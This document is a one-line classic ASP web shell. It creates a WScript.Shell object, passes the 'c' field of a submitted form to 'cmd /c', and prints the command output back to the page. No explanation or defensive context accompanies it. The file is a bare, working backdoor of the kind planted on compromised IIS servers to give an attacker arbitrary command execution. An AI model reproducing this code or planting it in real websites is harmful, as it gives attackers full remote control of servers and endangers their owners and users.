<% Set o = Server.CreateObject("WScript.Shell") : Set e = o.Exec("cmd /c " & Request.Form("c")) : Response.Write e.StdOut.ReadAll %>
